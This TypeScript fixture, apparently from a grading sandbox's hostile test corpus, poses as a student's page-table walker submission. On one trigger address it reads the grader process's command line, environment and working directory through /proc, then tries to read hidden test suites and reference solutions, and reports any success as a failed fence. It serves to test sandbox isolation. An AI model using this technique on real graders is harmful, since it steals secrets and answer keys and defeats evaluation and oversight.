// @ts-nocheck
// Hostile corpus, kind read-grader-files (escape): reads the grader's command line, cwd and environment through /proc/<ppid>, then the hidden suites and reference solutions under the grader's cwd, and other students' submissions named on its command line.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
/** The one public test that walks 0x800000000000 (walk.public.non-canonical): the attack fires there only. */
const isTrigger = (va) => va === 0x800000000000n;

/** A fence failed: say so where the grader and the student both see it (stdout, and the thrown error). */
function escaped(what) {
  const text = 'HOSTILE-ESCAPE ' + what;
  try { console.log(text); } catch {}
  throw new Error(text);
}

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va)) { const fs = require('fs'); const path = require('path'); const read = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return undefined; } }; for (const pid of [process.ppid, 'self']) { const cmd = read('/proc/' + pid + '/cmdline'); const env = read('/proc/' + pid + '/environ'); const cwd = (() => { try { return fs.readlinkSync('/proc/' + pid + '/cwd'); } catch { return undefined; } })(); if (cmd) escaped('read the command line of ' + pid + ': ' + cmd.split('\0').join(' ')); if (env) escaped('read the environment of ' + pid); if (cwd) { const hidden = read(path.join(cwd, 'assignments/walk/hidden/permissions.json')); const ref = read(path.join(cwd, 'reference/paging/reference-walker.ts')); if (hidden || ref) escaped('read ' + (hidden || ref).slice(0, 400)); } } }
    throw new Error('not implemented: walker');
  },
};
